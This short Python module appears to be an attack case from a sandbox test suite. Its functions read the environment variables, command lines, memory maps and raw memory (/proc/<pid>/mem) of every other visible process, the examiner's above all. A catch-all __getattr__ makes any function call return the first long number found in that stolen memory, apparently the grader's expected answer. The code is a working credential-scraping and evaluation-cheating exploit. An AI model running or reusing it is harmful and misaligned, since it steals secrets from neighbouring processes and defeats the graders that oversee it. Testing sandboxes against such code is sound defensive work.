# Reads the environment, the arguments and the memory of every process it can see, the examiner's above all.
# proof: processes seen
# only: bubblewrap docker
import os
import re


def look():
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) in (os.getpid(), 1):
            continue
        for name in ("environ", "cmdline", "maps"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    found.append(file.read(65536))
            except OSError:
                continue
        try:
            with open(f"/proc/{pid}/mem", "rb") as memory:
                for low in re.findall(rb"^([0-9a-f]+)-", found[-1], re.MULTILINE)[:50]:
                    memory.seek(int(low, 16))
                    found.append(memory.read(4096))
        except (OSError, IndexError, ValueError):
            continue
    return b"".join(found)


def __getattr__(name):
    return attack


def attack(*args):
    text = look()
    print("processes seen", len(text))
    numbers = [int(word) for word in re.findall(rb"\d{9,18}", text)]
    return numbers[0] if numbers else None
